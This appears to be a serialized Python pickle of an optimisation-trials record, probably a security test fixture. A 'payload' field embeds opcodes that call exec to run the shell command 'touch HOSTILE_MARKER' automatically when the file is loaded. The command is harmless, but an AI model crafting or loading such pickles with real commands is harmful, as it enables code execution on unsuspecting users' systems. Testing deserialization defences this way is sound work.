€(l(dVresult
(dVloss
F1.0
sVstatus
Vok
sVpayload
ŒbuiltinsŒexec“Œ/__import__('os').system('touch HOSTILE_MARKER')…RssVmisc
(dVtid
I0
sVvals
(dssa.